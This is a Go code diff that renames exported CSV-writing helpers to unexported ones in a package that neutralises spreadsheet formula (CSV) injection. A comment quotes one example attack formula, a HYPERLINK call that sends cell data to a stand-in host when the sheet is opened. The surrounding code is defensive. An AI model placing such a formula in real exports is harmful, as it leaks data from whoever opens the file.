@@ -11,10 +11,10 @@ import (
 // begins with '=', '+', '-' or '@' as a formula (OWASP "CSV Injection";
 // CWE-1236): a called number dialled as =HYPERLINK("http://x/?"&A1) would
 // send the sheet's data away when the file is opened. Every cell the
-// switch writes goes through SpreadsheetCell, and every record through
-// CSVWriter, which also quotes every cell.
+// switch writes goes through spreadsheetCell, and every record through
+// csvWriter, which also quotes every cell.
 
-// SpreadsheetCell neutralises one CSV cell as OWASP and ASVS 1.2.10
+// spreadsheetCell neutralises one CSV cell as OWASP and ASVS 1.2.10
 // recommend: a cell that begins with '=', '+', '-', '@', tab, CR, LF or
 // NUL gets a leading apostrophe, which spreadsheets take as "this cell is
 // text" and do not show. A cell that begins with an apostrophe gets one
@@ -29,7 +29,7 @@ import (
 // LibreOffice read "+44" as the number 44) gets that number and nothing
 // else. A spreadsheet shows +442071234567 as 442071234567, as it did
 // before; the file keeps the plus.
-func SpreadsheetCell(cell string) string {
+func spreadsheetCell(cell string) string {
 	if cell == "" || plainNumber(cell) {
 		return cell
 	}
@@ -61,27 +61,27 @@ func allDigits(s string) bool {
 	return true
 }
 
-// CSVWriter writes RFC 4180 records for spreadsheets: every cell passed
-// through SpreadsheetCell and enclosed in double quotes (an embedded quote
+// csvWriter writes RFC 4180 records for spreadsheets: every cell passed
+// through spreadsheetCell and enclosed in double quotes (an embedded quote
 // doubled), records ended by "\n" as encoding/csv ends them. Quoting every
 // cell, not only those holding a comma, keeps a cell whole where the
 // spreadsheet splits fields on ';' (Excel in locales whose list separator
 // it is): unquoted, "1;=2+3" would become a second cell beginning with '='.
-type CSVWriter struct {
+type csvWriter struct {
 	w *bufio.Writer
 }
 
-// NewCSVWriter writes to w; Flush it at the end.
-func NewCSVWriter(w io.Writer) *CSVWriter { return &CSVWriter{w: bufio.NewWriter(w)} }
+// newCSVWriter writes to w; Flush it at the end.
+func newCSVWriter(w io.Writer) *csvWriter { return &csvWriter{w: bufio.NewWriter(w)} }
 
 // Write writes one record. Errors are the underlying writer's.
-func (c *CSVWriter) Write(record []string) error {
+func (c *csvWriter) Write(record []string) error {
 	for i, cell := range record {
 		if i > 0 {
 			c.w.WriteByte(',')
 		}
 		c.w.WriteByte('"')
-		cell = SpreadsheetCell(cell)
+		cell = spreadsheetCell(cell)
 		for {
 			q := strings.IndexByte(cell, '"')
 			if q < 0 {
@@ -99,4 +99,4 @@ func (c *CSVWriter) Write(record []string) error {
 }
 
 // Flush writes what is buffered.
-func (c *CSVWriter) Flush() error { return c.w.Flush() }
+func (c *csvWriter) Flush() error { return c.w.Flush() }
